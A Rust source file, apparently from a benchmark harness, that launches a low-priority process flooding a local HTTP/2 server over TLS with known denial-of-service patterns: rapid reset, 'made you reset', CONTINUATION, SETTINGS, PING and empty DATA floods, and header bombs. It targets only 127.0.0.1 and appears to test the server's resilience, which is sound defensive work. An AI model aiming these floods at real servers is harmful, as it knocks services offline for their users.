//! The attacker: a process of the lowest priority, that opens so many connections a second and floods on each of them.

use std::pin::Pin;
use std::process::Stdio;
use std::sync::Arc;
use std::time::Duration;

use clap::ValueEnum;
use gantz_tests::client::{Io, trusting};
use rustls::pki_types::ServerName;
use tokio::net::TcpStream;
use tokio::process::{Child, Command};
use tokio::task::JoinSet;
use tokio::time::{MissedTickBehavior, interval};
use tokio_rustls::TlsConnector;

use crate::frames::*;
use crate::relay::Target;

/// In which the attacker gets its target: it holds a token.
const VARIABLE: &str = "GANTZ_BENCH_TARGET";
/// Frames, or pairs of them, that are said on each connection: more than any connection may say.
const FRAMES: u32 = 2_000;
/// So many to a write.
const BATCH: usize = 100;
/// A connection that is not done by then is given up.
const PATIENCE: Duration = Duration::from_secs(5);

/// What a flood is made of.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(crate) enum Kind {
    Handshake,
    RapidReset,
    MadeYouReset,
    Continuation,
    Settings,
    Ping,
    Data,
    Bomb,
}

impl Kind {
    pub(crate) const ALL: [Self; 8] = [
        Self::Handshake,
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::Data,
        Self::Bomb,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Handshake => "TLS handshakes alone, for comparison",
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "made you reset",
            Self::Continuation => "CONTINUATION",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::Data => "empty DATA",
            Self::Bomb => "header bombs",
        }
    }

    /// What is said first, and then for each of [`FRAMES`].
    fn says(self, target: &Target) -> (Vec<u8>, Say) {
        let block = request("GET", &target.host, "/mcp", &target.token);
        let get = move |id| frame(HEADERS, END_HEADERS | END_STREAM, id, &block);
        let block = request("POST", &target.host, "/mcp", &target.token);
        let post = move |id| frame(HEADERS, END_HEADERS, id, &block);
        match self {
            Self::Handshake => (Vec::new(), Box::new(|_| Vec::new())),
            Self::RapidReset => {
                (Vec::new(), Box::new(move |id| [get(id), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()))
            }
            Self::MadeYouReset => {
                (Vec::new(), Box::new(move |id| [post(id), frame(WINDOW_UPDATE, 0, id, &[0; 4])].concat()))
            }
            Self::Continuation => {
                let begin = frame(HEADERS, END_STREAM, 1, &request("GET", &target.host, "/mcp", &target.token));
                (begin, Box::new(|_| frame(CONTINUATION, 0, 1, &field("x", "y", false))))
            }
            Self::Settings => (Vec::new(), Box::new(|_| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]))),
            Self::Ping => (Vec::new(), Box::new(|_| frame(PING, 0, 0, &[7; 8]))),
            Self::Data => (post(1), Box::new(|_| frame(DATA, 0, 1, &[]))),
            Self::Bomb => {
                let large = [field("x", &"y".repeat(4000), true), vec![0x80 | 62; 11_000]].concat();
                let bomb = [request("GET", &target.host, "/mcp", &target.token), large].concat();
                // Of the size of a hundred others.
                let say = move |id: u32| match id % 200 {
                    1 => frame(HEADERS, END_HEADERS | END_STREAM, id, &bomb),
                    _ => Vec::new(),
                };
                (Vec::new(), Box::new(say))
            }
        }
    }
}

/// The frames of the attack on the stream of this id.
type Say = Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>;

/// Starts this program as the attacker.
pub(crate) fn start(kind: Kind, rate: u32, target: &Target) -> Child {
    let kind = kind.to_possible_value().expect("it has a name");
    Command::new("nice")
        .args(["-n", "19"])
        .arg(std::env::current_exe().unwrap())
        .args(["--attack", kind.get_name(), "--rate", &rate.to_string()])
        .env(VARIABLE, serde_json::to_string(target).unwrap())
        .stdin(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap()
}

/// Floods until it is killed.
pub(crate) async fn run(kind: Kind, rate: u32) {
    let target: Target = serde_json::from_str(&std::env::var(VARIABLE).unwrap()).unwrap();
    let target = Arc::new(target);
    let tls = TlsConnector::from(Arc::new(trusting(&target.pem, &[b"h2"])));
    let mut turn = interval(Duration::from_secs(1) / rate);
    // What it could not do in time it does not do at all.
    turn.set_missed_tick_behavior(MissedTickBehavior::Skip);
    let mut connections = JoinSet::new();
    loop {
        turn.tick().await;
        while connections.try_join_next().is_some() {}
        let (target, tls) = (target.clone(), tls.clone());
        connections.spawn(async move {
            // However it ends, the next one is on its way.
            let _ = tokio::time::timeout(PATIENCE, flood(kind, &target, &tls)).await;
        });
    }
}

async fn flood(kind: Kind, target: &Target, tls: &TlsConnector) {
    let Ok(tcp) = TcpStream::connect(("127.0.0.1", target.port)).await else { return };
    let name = ServerName::try_from(target.host.clone()).unwrap();
    let Ok(io) = tls.connect(name, tcp).await else { return };
    if kind == Kind::Handshake {
        return;
    }
    let io: Pin<Box<dyn Io>> = Box::pin(io);
    let mut peer = Peer::open(io, &[]).await.reads();
    let (first, say) = kind.says(target);
    if !peer.say(&first).await {
        return;
    }
    let streams: Vec<_> = (1..2 * FRAMES).step_by(2).skip(usize::from(!first.is_empty())).collect();
    peer.flood(streams.chunks(BATCH).map(|some| some.iter().flat_map(|id| say(*id)).collect())).await;
    peer.close().await;
}
